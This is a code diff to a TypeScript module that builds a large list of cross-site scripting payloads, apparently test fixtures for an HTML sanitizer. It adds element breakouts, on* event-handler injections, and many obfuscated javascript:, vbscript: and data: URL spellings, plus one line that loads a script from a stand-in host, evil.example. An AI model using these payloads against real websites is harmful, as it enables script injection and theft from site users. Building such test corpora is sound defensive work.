@@ -1,7 +1,7 @@
 /** Calls `pwned()` if any of it runs. By the way it would run. */
 const RUN = 'pwned()';
 
-export const PAYLOADS: readonly string[] = [
+const WRITTEN: readonly string[] = [
   // Scripts
   `<script>${RUN}</script>`,
   `<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`,
@@ -96,3 +96,118 @@ export const PAYLOADS: readonly string[] = [
   `<p title="&quot;><img src=x onerror=${RUN}>">x</p>`,
   `${'<div>'.repeat(600)}<img src=x onerror=${RUN}>`,
 ];
+
+/** Ways out of the element that HTML is put into, or over the rest of the page. */
+const BREAKING_OUT: readonly string[] = [
+  '</div></div></div></main></body></html><h1>out</h1>',
+  '</p></section><footer>out</footer>',
+  '</template></slot></dialog>out',
+  '</style></script></title></textarea>out',
+  '<div><div><div>never closed',
+  '<table><tr><td>never closed',
+  '<table><caption></table></div></table>out',
+  '<ul><li><ol><li></ul></div>out',
+  '<a href="/m/help">one<a href="/m/vip">two<div></a></div>',
+  '<b><i><u></b></i></u></div></b>',
+  '<p><div></p></div></div>',
+  '<plaintext>all of the rest',
+  '<textarea>all of the rest',
+  '<title>all of the rest',
+  '<style>all of the rest',
+  '<script>all of the rest',
+  '<noscript>all of the rest',
+  '<xmp>all of the rest',
+  '<listing>all of the rest',
+  '<iframe>all of the rest',
+  '<noembed>all of the rest',
+  '<noframes>all of the rest',
+  '<select><option>all of the rest',
+  '<svg><style>all of the rest',
+  '<math><annotation-xml encoding="text/html"><div>all of the rest',
+  '<template><div>all of the rest',
+  '<!-- all of the rest',
+  '<!--> all of the rest',
+  '<![CDATA[ all of the rest',
+  '<?php all of the rest',
+  '<a title="all of the rest',
+  "<img alt='all of the rest",
+  '<p class=all of the rest',
+  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99">over</div>',
+  '<div class="shade">over</div>',
+  '<div class="dialog top tabs">over</div>',
+  '<dialog open>over</dialog>',
+  '<div popover="manual" id="toasts">over</div>',
+  '<p id="main" name="toasts">x</p>',
+  '<form id="main"><input name="attributes"></form>',
+  '<img name="body" src="https://a.example/a.png" alt="">',
+  '<html data-theme="none" class="x"><body class="y" data-session="member">x</body></html>',
+  '<head><title>other</title></head>',
+  '<base target="_top"><a href="/m/help">x</a>',
+  '<marquee width="9999">x</marquee>',
+  '<img src="https://a.example/a.png" width="99999" height="99999" alt="">',
+  '<table width="9999"><td width="9999">x</td></table>',
+  `<pre>${'w'.repeat(900)}</pre>`,
+  `<p>${'w'.repeat(900)}</p>`,
+  '<p dir="rtl">\u202Eright to left\u202C</p>',
+  '<p>\u202E\u2066never ended</p>',
+  `${'<blockquote>'.repeat(120)}deep`,
+  `${'<ul><li>'.repeat(120)}deep`,
+  '<p contenteditable tabindex="99" accesskey="x" hidden>x</p>',
+  '<link rel="stylesheet" href="data:text/css,*{display:none}">',
+  '<style>*{display:none}</style>',
+];
+
+const EVENTS =
+  `onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput onbeforematch onbeforetoggle
+  onblur oncanplay onchange onclick oncontextmenu oncopy oncut ondblclick ondrag ondrop onerror onfocus onfocusin
+  onformdata onhashchange oninput oninvalid onkeydown onload onloadstart onmessage onmousedown onmouseenter onmousemove
+  onmouseover onmousewheel onpageshow onpaste onpointerdown onpointermove onpointerrawupdate onpopstate onreset onresize
+  onscroll onscrollend onsearch onseeked onselect onselectstart onslotchange onsubmit onsuspend ontimeupdate ontoggle
+  ontouchstart ontransitionend ontransitionrun onunload onvolumechange onwheel`.split(/\s+/);
+
+/** Elements that are let through, so that only their handlers may go. */
+const KEPT = ['img src="https://a.example/a.png"', 'a href="/m/help"', 'div', 'table', 'li', 'h2'];
+
+const HANDLED = EVENTS.map((event, index) => `<${KEPT[index % KEPT.length]} ${event}=${RUN}>x`);
+
+/** Spellings of a scheme that runs what follows it. */
+const SCHEMES: readonly string[] = [
+  'javascript:',
+  'JAVASCRIPT:',
+  ' javascript:',
+  '\tjavascript:',
+  '\njavascript:',
+  '\u00a0javascript:',
+  '\ufeffjavascript:',
+  'java\rscript:',
+  'java\u0000script:',
+  'javascript\t:',
+  'javascript&#58;',
+  'javascript&#x3a;',
+  'javascript&#0000058',
+  '&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97',
+  '&NewLine;javascript:',
+  'javascript://%0a',
+  'javascript:/*--></title>*/',
+  'feed:javascript:',
+  'view-source:javascript:',
+  'jar:javascript:',
+  'livescript:',
+  'mocha:',
+  'vbscript:',
+  'data:text/html,',
+  'data:application/xhtml+xml,',
+  'data:image/svg+xml;base64,',
+  'filesystem:',
+  'intent://x#Intent;scheme=javascript;S.url=',
+  'about:blank#',
+  'ws:',
+];
+
+const ADDRESSED = SCHEMES.flatMap((scheme) => [
+  `<a href="${scheme}${RUN}">x</a>`,
+  `<img src="${scheme}${RUN}" alt="">`,
+  `<a href='${scheme}${RUN}' target="_self">x</a>`,
+]);
+
+export const PAYLOADS: readonly string[] = [...WRITTEN, ...BREAKING_OUT, ...HANDLED, ...ADDRESSED];
